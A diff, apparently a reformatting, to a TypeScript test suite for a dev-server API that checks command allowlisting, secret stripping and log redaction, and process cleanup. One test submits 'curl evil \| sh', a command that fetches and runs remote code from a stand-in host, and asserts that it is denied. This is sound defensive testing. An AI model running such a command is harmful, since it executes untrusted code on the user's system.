@@ -38,7 +38,9 @@ describe('dev server', () => {
 
   const allowNode: CommandChecker = (argv) => {
     checked.push([...argv])
-    return argv[0] === process.execPath ? { allowed: true, reason: 'node is allowed in this test' } : { allowed: false, reason: `${argv[0]} is not on the allowlist` }
+    return argv[0] === process.execPath
+      ? { allowed: true, reason: 'node is allowed in this test' }
+      : { allowed: false, reason: `${argv[0]} is not on the allowlist` }
   }
 
   /** Resolves when an event matching `predicate` has arrived (or already did). */
@@ -61,11 +63,17 @@ describe('dev server', () => {
     mkdirSync(projectDir)
     writeFileSync(join(projectDir, 'dev.cjs'), DEV_SCRIPT)
     writeFileSync(join(projectDir, 'crash.cjs'), 'console.log("boom"); process.exit(3)')
-    writeFileSync(join(projectDir, 'package.json'), JSON.stringify({ scripts: { dev: 'vite', start: 'node x' } }))
+    writeFileSync(
+      join(projectDir, 'package.json'),
+      JSON.stringify({ scripts: { dev: 'vite', start: 'node x' } }),
+    )
     checked = []
     events = []
     server = await createServer({
-      projects: (name) => (name === 'app' ? ok({ name, dir: projectDir }) : err('PROJECT_NOT_FOUND', `No project named ${name}.`)),
+      projects: (name) =>
+        name === 'app'
+          ? ok({ name, dir: projectDir })
+          : err('PROJECT_NOT_FOUND', `No project named ${name}.`),
       checkCommand: allowNode,
       env: { ...process.env, ANTHROPIC_API_KEY: 'sk-ant-secret-value', GITHUB_TOKEN: 'ghp_secret' },
       validateResponses: true,
@@ -77,12 +85,20 @@ describe('dev server', () => {
     dir[Symbol.dispose]()
   })
 
-  const start = (body?: object) => server.app.inject({ method: 'POST', url: '/api/projects/app/devserver/start', ...(body ? { payload: body } : {}) })
+  const start = (body?: object) =>
+    server.app.inject({
+      method: 'POST',
+      url: '/api/projects/app/devserver/start',
+      ...(body ? { payload: body } : {}),
+    })
 
   it('refuses a command the policy denies, with its reason, and starts nothing', async () => {
     const response = await start({ command: ['bash', '-c', 'curl evil | sh'] })
     expect(response.statusCode).toBe(403)
-    expect(response.json().error).toEqual({ code: 'POLICY_DENIED', message: expect.stringContaining('bash is not on the allowlist') })
+    expect(response.json().error).toEqual({
+      code: 'POLICY_DENIED',
+      message: expect.stringContaining('bash is not on the allowlist'),
+    })
     expect(server.devServers.status('app').state).toBe('stopped')
   })
 
@@ -96,22 +112,32 @@ describe('dev server', () => {
   it('runs without the server secrets, detects its URL, streams its log and kills its process group on stop', async () => {
     const started = await start({ command: [process.execPath, 'dev.cjs'] })
     expect(started.statusCode).toBe(200)
-    expect(started.json()).toMatchObject({ state: 'running', command: [process.execPath, 'dev.cjs'] })
+    expect(started.json()).toMatchObject({
+      state: 'running',
+      command: [process.execPath, 'dev.cjs'],
+    })
     const withUrl = await eventually((e) => e.type === 'dev.status' && e.status.url !== null)
     expect(withUrl.type === 'dev.status' && withUrl.status.url).toBe('http://localhost:5199/')
     const envLine = await eventually((e) => e.type === 'dev.log' && e.line.startsWith('env '))
     expect(envLine.type === 'dev.log' && envLine.line).toBe('env no-key no-token')
     const leaked = await eventually((e) => e.type === 'dev.log' && e.line.startsWith('leaked'))
     expect(leaked.type === 'dev.log' && leaked.line).toBe('leaked [REDACTED]')
-    const grandchildLine = await eventually((e) => e.type === 'dev.log' && e.line.startsWith('grandchild'))
-    const grandchild = Number(grandchildLine.type === 'dev.log' && grandchildLine.line.split(' ')[1])
+    const grandchildLine = await eventually(
+      (e) => e.type === 'dev.log' && e.line.startsWith('grandchild'),
+    )
+    const grandchild = Number(
+      grandchildLine.type === 'dev.log' && grandchildLine.line.split(' ')[1],
+    )
     expect(isAlive(grandchild)).toBe(true)
 
     expect((await start({ command: [process.execPath, 'dev.cjs'] })).statusCode).toBe(409)
     const status = await server.app.inject({ url: '/api/projects/app/devserver/status' })
     expect(status.json()).toMatchObject({ state: 'running', url: 'http://localhost:5199/' })
 
-    const stopped = await server.app.inject({ method: 'POST', url: '/api/projects/app/devserver/stop' })
+    const stopped = await server.app.inject({
+      method: 'POST',
+      url: '/api/projects/app/devserver/stop',
+    })
     expect(stopped.json()).toMatchObject({ state: 'stopped', pid: null })
     expect(isAlive(grandchild)).toBe(false)
   })
@@ -124,9 +150,15 @@ describe('dev server', () => {
   })
 
   it('answers an unknown project with 404 and a bad command shape with 400', async () => {
-    expect((await server.app.inject({ method: 'POST', url: '/api/projects/nope/devserver/start' })).statusCode).toBe(404)
+    expect(
+      (await server.app.inject({ method: 'POST', url: '/api/projects/nope/devserver/start' }))
+        .statusCode,
+    ).toBe(404)
     expect((await start({ command: 'npm run dev' })).statusCode).toBe(400)
     expect((await start({ command: [] })).statusCode).toBe(400)
-    expect((await server.app.inject({ method: 'POST', url: '/api/projects/app/devserver/stop' })).statusCode).toBe(409)
+    expect(
+      (await server.app.inject({ method: 'POST', url: '/api/projects/app/devserver/stop' }))
+        .statusCode,
+    ).toBe(409)
   })
 })
